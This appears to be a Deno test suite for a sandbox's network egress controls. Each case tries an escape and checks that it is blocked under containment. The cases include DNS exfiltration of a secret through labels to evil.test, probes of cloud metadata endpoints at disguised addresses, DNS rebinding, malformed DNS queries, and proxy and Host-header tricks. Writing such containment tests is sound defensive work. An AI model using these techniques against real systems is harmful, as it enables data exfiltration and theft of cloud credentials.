/**
 * Attacks on the way out of a capsule's network, from inside commands on every contained tier. Each is first made without
 * containment in the same network, where it must succeed.
 *
 * @module
 */
import assert from "node:assert/strict";
import { parseNetworkRule } from "../../artifact/network_rules.ts";
import { checkoutHelper } from "../../sandbox/confine_helper.ts";
import { NAME_BINDING_MS } from "../../sandbox/egress_policy.ts";
import { SessionNetwork } from "../../sandbox/session_network.ts";
import { ConfinedPlace, CONTAINED_TIERS } from "../../sandbox/testing/confined_place.ts";
import { buildTestProgram } from "../support/test_program.ts";
import type { Step, WorldReport } from "./egress_world.ts";

/** A way out: what it gives without containment, and with it. */
interface Attack {
  readonly name: string;
  readonly run: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  readonly bare: string | RegExp;
  readonly contained: string | RegExp;
}

const tcp = (address: string, port: number, text = "x\r\n\r\n") => ["attack", "tcp", address, `${port}`, text];
const udp = (address: string, port: number) => ["attack", "udp", address, `${port}`, "leak"];
const dns = (name: string, type: string, server = "1.1.1.1") => ["attack", "dns", server, name, type];
const reaches = (address: string, port: number) => new RegExp(`^at ${address.replaceAll(".", "\\.")}:${port}: `);
const CLOSED = "closed";
const REFUSED = /^5 from 1\.1\.1\.1$/;
const NOTHING = /^(silent|ECONNREFUSED|ENETUNREACH|EACCES|EPERM)$/;

const A = "1";
const AAAA = "28";
const SECRET = "c3VwZXItc2VjcmV0LWFwaS1rZXk";

/** A connection to where nothing leads that the rules name. */
const refusedTcp = (name: string, address: string, port: number): Attack => ({
  name,
  run: tcp(address, port),
  bare: reaches(address, port),
  contained: CLOSED,
});

const BEFORE_ANY_NAME: readonly Attack[] = [
  refusedTcp("a public address that no name led to", "93.184.216.34", 80),
  refusedTcp("an address of a name outside the rules", "93.184.216.66", 80),
  refusedTcp("the metadata service", "169.254.169.254", 80),
  refusedTcp("the metadata service of Azure", "168.63.129.16", 80),
  refusedTcp("a private neighbour", "10.0.0.1", 80),
  refusedTcp("another private neighbour", "192.168.1.1", 80),
  refusedTcp("a private neighbour of a carrier", "100.64.0.1", 80),
  refusedTcp("the neighbour of an address a rule names", "10.9.9.8", 80),
  refusedTcp("an address a rule names, on another rule's port", "10.9.9.9", 8080),
  refusedTcp("loopback, on another rule's port", "127.0.0.1", 80),
  refusedTcp("another loopback address, on localhost's port", "127.0.0.2", 8080),
  refusedTcp("a test network", "192.0.2.1", 80),
];

/** A message for a name server: header, then questions of labels as they are given. */
function message(flags: number, ...questions: readonly (readonly (string | number[])[])[]): string[] {
  const bytes = [0x12, 0x34, flags >> 8, flags & 255, 0, questions.length, 0, 0, 0, 0, 0, 0];
  for (const labels of questions) {
    for (const label of labels) {
      const text = typeof label === "string" ? [...new TextEncoder().encode(label)] : null;
      bytes.push(...(text === null ? label as number[] : [text.length, ...text]));
    }
    bytes.push(0, 0, 1, 0, 1);
  }
  const hex = bytes.map((byte) => byte.toString(16).padStart(2, "0")).join("");
  return ["attack", "message", "1.1.1.1", hex];
}

const STANDARD = 0x0100;
/** Messages that a name server may read as one for an allowed name, or as none at all. */
const MESSAGES: readonly (readonly [string, readonly string[], string])[] = [
  ["a name in one label", message(STANDARD, ["api.example"]), "5"],
  ["a name that ends in a NUL", message(STANDARD, ["api", "example\0"]), "5"],
  ["a name with a NUL and another behind it", message(STANDARD, ["api", "example\0.evil", "test"]), "5"],
  ["a name in other letters", message(STANDARD, ["\u{ff41}pi", "example"]), "5"],
  ["a name with a soft hyphen", message(STANDARD, ["a\u{ad}pi", "example"]), "5"],
  ["its punycode", message(STANDARD, ["xn--pi-6ia", "example"]), "5"],
  ["an allowed name below another", message(STANDARD, ["api", "example", "evil", "test"]), "5"],
  ["a name with blanks", message(STANDARD, ["api ", "example"]), "5"],
  ["an address as a name", message(STANDARD, ["93", "184", "216", "66"]), "5"],
  ["the root", message(STANDARD, []), "5"],
  ["an allowed question before another", message(STANDARD, ["api", "example"], ["evil", "test"]), "1"],
  ["another question before an allowed one", message(STANDARD, ["evil", "test"], ["api", "example"]), "1"],
  ["no question", message(STANDARD), "1"],
  ["a name that points at itself", message(STANDARD, [[0xc0, 12]]), "1"],
  ["a name longer than a name can be", message(STANDARD, Array.from({ length: 60 }, () => "aaaa")), "1"],
  ["an answer", message(0x8180, ["api", "example"]), "1"],
  ["an update", message(0x2800, ["api", "example"]), "1"],
];

const ELSEWHERE: readonly Attack[] = [
  { name: "a port without a rule", run: tcp("93.184.216.34", 22), bare: /^at /, contained: "ECONNREFUSED" },
  { name: "a loopback port without a rule", run: tcp("127.0.0.1", 9999), bare: /^at /, contained: "ECONNREFUSED" },
  { name: "IPv6 loopback", run: tcp("::1", 80), bare: /^at ::1:80/, contained: /^(ECONNREFUSED|ENETUNREACH)$/ },
  {
    name: "the metadata service, by an IPv6 socket",
    run: tcp("::ffff:169.254.169.254", 80),
    bare: /^at /,
    contained: CLOSED,
  },
  { name: "UDP to a service", run: udp("93.184.216.34", 9999), bare: "answered", contained: NOTHING },
  { name: "UDP to a time server", run: udp("127.0.0.1", 123), bare: "answered", contained: NOTHING },
  { name: "a raw socket", run: ["attack", "raw"], bare: "open", contained: NOTHING },
  { name: "a name outside the rules", run: dns("evil.test", A), bare: /^0 93\.184\.216\.66 /, contained: REFUSED },
  {
    name: "the same at the host's own server",
    run: dns("evil.test", A, "127.0.0.1"),
    bare: /^0 /,
    contained: "5 from 127.0.0.1",
  },
  { name: "a secret in a name", run: dns(`${SECRET}.evil.test`, A), bare: /^3 /, contained: REFUSED },
  {
    name: "a secret in many labels",
    run: dns(`${`${SECRET}.`.repeat(6)}evil.test`, A),
    bare: /^3 /,
    contained: REFUSED,
  },
  { name: "a secret below an allowed name", run: dns(`${SECRET}.api.example`, A), bare: /^3 /, contained: REFUSED },
  { name: "a secret in a TXT question", run: dns(`${SECRET}.evil.test`, "16"), bare: /^3 /, contained: REFUSED },
  { name: "a secret in a NULL question", run: dns(`${SECRET}.evil.test`, "10"), bare: /^3 /, contained: REFUSED },
  { name: "TXT of an allowed name", run: dns("api.example", "16"), bare: /^0 /, contained: "0 from 1.1.1.1" },
  ...MESSAGES.map(([name, run, contained]): Attack => ({ name: `asked for: ${name}`, run, bare: /.*/, contained })),
  { name: "a name over TCP", run: tcp("1.1.1.1", 53), bare: /^at 1\.1\.1\.1:53/, contained: "ECONNREFUSED" },
  { name: "NULL of an allowed name", run: dns("api.example", "10"), bare: /^0 /, contained: "0 from 1.1.1.1" },
];

const GETS_THROUGH: readonly Attack[] = [
  {
    name: "an allowed name resolves, answered from where it was asked",
    run: dns("aPi.ExAmPlE", A),
    bare: /^0 93\.184\.216\.34 /,
    contained: "0 93.184.216.34 from 1.1.1.1",
  },
  {
    name: "and opens its address",
    run: tcp("93.184.216.34", 80),
    bare: /^at /,
    contained: reaches("93.184.216.34", 80),
  },
  {
    name: "localhost's port is a rule's",
    run: tcp("127.0.0.1", 8080),
    bare: /^at /,
    contained: reaches("127.0.0.1", 8080),
  },
  { name: "an address that a rule names", run: tcp("10.9.9.9", 80), bare: /^at /, contained: reaches("10.9.9.9", 80) },
  {
    name: "128 connections at once",
    run: ["attack", "hold", "93.184.216.34", "80", "128"],
    bare: "128",
    contained: "128",
  },
];

const AFTER_A_NAME: readonly Attack[] = [
  refusedTcp("the address of an allowed name, on another rule's port", "93.184.216.34", 8080),
  refusedTcp("the same on a third", "93.184.216.34", 8022),
  refusedTcp("its neighbour", "93.184.216.35", 80),
  {
    name: "an absolute form for another host",
    run: tcp("93.184.216.34", 80, "GET http://169.254.169.254/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
    bare: /^at 93/,
    contained: /^at 93\.184\.216\.34:80: GET http:\/\/169\.254\.169\.254\/ HTTP\/1\.1$/,
  },
  {
    name: "CONNECT to another host",
    run: tcp("93.184.216.34", 80, "CONNECT 10.0.0.1:22 HTTP/1.1\r\n\r\n"),
    bare: /^at 93/,
    contained: "at 93.184.216.34:80: CONNECT 10.0.0.1:22 HTTP/1.1",
  },
  {
    name: "more connections at once than are carried",
    run: ["attack", "hold", "93.184.216.34", "80", "150"],
    bare: "150",
    contained: "128",
  },
  {
    name: "many connections that are dropped at once",
    run: ["attack", "churn", "93.184.216.34", "80", "300"],
    bare: "300",
    contained: "300",
  },
  {
    name: "a connection after them",
    run: tcp("93.184.216.34", 80),
    bare: /^at /,
    contained: reaches("93.184.216.34", 80),
  },
  { name: "taking the relay's port", run: ["attack", "bind", "tcp", "8090"], bare: "bound", contained: "EADDRINUSE" },
];

const REBINDING: readonly Attack[] = [
  {
    name: "a name that leads inside",
    run: dns("rebind.example", A),
    bare: /^0 169\.254\.169\.254 /,
    contained: "0 from 1.1.1.1",
  },
  {
    name: "its IPv4-mapped form",
    run: dns("rebind.example", AAAA),
    bare: /^0 ::ffff:169\.254\.169\.254 /,
    contained: "0 from 1.1.1.1",
  },
  refusedTcp("where it leads", "169.254.169.254", 80),
];

const EXPIRED: readonly Attack[] = [
  refusedTcp("the address of a name bound long ago", "93.184.216.34", 80),
];

const curl = (...args: string[]) => ["/usr/bin/curl", "-sS", "-m", "5", ...args];
const WITH_CURL: readonly Attack[] = [
  {
    name: "curl fetches from an allowed name",
    run: curl("http://api.example/page"),
    bare: /.*/,
    contained: "at 93.184.216.34:80: GET /page HTTP/1.1",
  },
  {
    name: "curl fetches from an allowed service of this machine",
    run: curl("http://localhost:8080/page"),
    bare: /^at 127/,
    contained: "at 127.0.0.1:8080: GET /page HTTP/1.1",
  },
  { name: "curl to another name", run: curl("http://evil.test/"), bare: /.*/, contained: "" },
  { name: "curl to an address", run: curl("http://169.254.169.254/latest/"), bare: /^at 169/, contained: "" },
  {
    name: "curl by a name it resolves itself",
    run: curl("--resolve", "api.example:80:169.254.169.254", "http://api.example/"),
    bare: /^at 169/,
    contained: "",
  },
  ...["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.16689662", "[::ffff:169.254.169.254]"].map((host) => ({
    name: `curl to an address in disguise, ${host}`,
    run: curl("-g", `http://${host}/latest/`),
    bare: /^at (::ffff:)?(169\.254\.169\.254|a9fe:a9fe):80/,
    contained: "",
  })),
  {
    name: "curl with another host's name for an allowed address",
    run: curl("-H", "Host: metadata.google.internal", "http://api.example/page"),
    bare: /.*/,
    contained: "at 93.184.216.34:80: GET /page HTTP/1.1",
  },
  {
    name: "curl by a proxy",
    run: curl("-x", "http://10.0.0.1:80", "http://evil.test/"),
    bare: /^at 10/,
    contained: "",
  },
];

const hasCurl = exists("/usr/bin/curl");
const PHASES: readonly (readonly Attack[] | Exclude<Step, { name: string }>)[] = [
  BEFORE_ANY_NAME,
  ELSEWHERE,
  GETS_THROUGH,
  AFTER_A_NAME,
  {
    answer: {
      "rebind.example": { a: "169.254.169.254", aaaa: [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 255, 255, 169, 254, 169, 254] },
    },
  },
  REBINDING,
  { pass: NAME_BINDING_MS },
  EXPIRED,
  ...hasCurl ? [WITH_CURL] : [],
];
const ATTACKS = PHASES.flatMap((phase) => "length" in phase ? [...phase] : []);

function exists(path: string): boolean {
  try {
    return Deno.statSync(path).isFile;
  } catch {
    return false;
  }
}

/** Whether this host gives a network of its own; asked without the helper. */
const canHaveNetwork = Deno.build.os === "linux" &&
  await new Deno.Command("unshare", { args: ["-rn", "true"] }).output().then(({ success }) => success, () => false);

let report: Promise<WorldReport> | undefined;

function world(): Promise<WorldReport> {
  return report ??= (async () => {
    const directory = await Deno.makeTempDir();
    try {
      const [network, attack, helper] = await Promise.all([
        buildTestProgram("own_network", directory),
        buildTestProgram("egress_attack", directory),
        checkoutHelper(),
      ]);
      const steps: Step[] = PHASES.flatMap((phase): Step[] =>
        "length" in phase ? phase.map(({ name, run, env }) => ({ name, run, ...env && { env } })) : [phase]
      );
      const child = new Deno.Command(network, {
        args: [Deno.execPath(), "run", "-A", new URL("./egress_world.ts", import.meta.url).href, helper, attack],
        // The program that runs this asks for news of itself otherwise.
        env: { DENO_NO_UPDATE_CHECK: "1" },
        stdin: "piped",
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      const writer = child.stdin.getWriter();
      await writer.write(new TextEncoder().encode(JSON.stringify(steps)));
      await writer.close();
      const { stdout, stderr } = await child.output();
      const said = new TextDecoder().decode(stderr);
      assert.equal(said, "");
      return JSON.parse(new TextDecoder().decode(stdout));
    } finally {
      await Deno.remove(directory, { recursive: true });
    }
  })();
}

function check(got: string | undefined, expected: string | RegExp, what: string): void {
  if (typeof expected === "string") assert.equal(got, expected, what);
  else assert.match(got ?? "not run", expected, what);
}

const ignore = !canHaveNetwork;

for (const { name, bare, contained } of ATTACKS) {
  Deno.test({
    name: `egress: ${name}`,
    ignore,
    fn: async () => {
      const { bare: without, contained: within } = await world();
      check(without.results[name], bare, "without containment");
      for (const tier of CONTAINED_TIERS) check(within[tier].results[name], contained, tier);
    },
  });
}

Deno.test({
  name: "egress: of all that was asked, only names of the rules reached the name server",
  ignore,
  fn: async () => {
    const { bare, contained } = await world();
    assert.ok(
      bare.asked.some((question) => question.includes(SECRET.toLowerCase())),
      "without containment a name leaks",
    );
    for (const tier of CONTAINED_TIERS) {
      assert.ok(contained[tier].asked.length > 0);
      const leaked = contained[tier].asked.filter((question) => !/^(api|rebind|ssh)\.example (A|AAAA)$/.test(question));
      assert.deepEqual(leaked, [], tier);
    }
  },
});

Deno.test({
  name: "egress: of all that was dialled, only what the rules name was reached, and no datagram",
  ignore,
  fn: async () => {
    const { bare, contained } = await world();
    for (const place of ["169.254.169.254:80", "10.0.0.1:80", "127.0.0.1:80", "93.184.216.34:22"]) {
      assert.ok(bare.reached.includes(place), `${place} is there`);
    }
    assert.ok(bare.datagrams.includes("leak"));
    for (const tier of CONTAINED_TIERS) {
      const reached = [...new Set(contained[tier].reached)].sort();
      assert.deepEqual(reached, ["10.9.9.9:80", "127.0.0.1:8080", "93.184.216.34:80"], tier);
      assert.deepEqual(contained[tier].datagrams, [], tier);
    }
  },
});

Deno.test({
  name: "egress: floods of name queries fill no memory of the runtime, and connections go on",
  ignore,
  fn: async () => {
    const helper = await checkoutHelper();
    await using place = new ConfinedPlace(helper);
    const attack = await buildTestProgram("egress_attack", place.workdir);
    const service = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => new Response("still here"));
    const { port } = service.addr;
    const network = await SessionNetwork.open({
      helper,
      controlDirectory: place.control,
      rules: [parseNetworkRule(`127.0.0.1:${port}`), parseNetworkRule("localhost:1")],
    });
    try {
      const run = async (...args: string[]) =>
        (await place.run(attack, ["attack", ...args], { workdirExec: true, records: [await network.join()] })).stdout;
      const resident = () => Deno.memoryUsage().rss / 2 ** 20;
      const before = resident();
      const names = ["evil.test", "localhost", "evil.test"];
      const floods = Promise.all(names.map((name) => run("flood", "1.1.1.1", name, "5")));
      let most = before;
      const sampling = setInterval(() => most = Math.max(most, resident()), 100);
      assert.match(await run("tcp", "127.0.0.1", `${port}`, "GET / HTTP/1.0\r\n\r\n"), /still here/);
      for (const sent of await floods) assert.ok(Number(sent) > 50_000, `${sent} queries were sent`);
      clearInterval(sampling);
      assert.ok(most - before < 150, `${Math.round(most - before)} MiB more`);
      assert.match(await run("dns", "1.1.1.1", "localhost", A), /^0 127\.0\.0\.1 /);
    } finally {
      await network[Symbol.asyncDispose]();
      await service.shutdown();
    }
  },
});
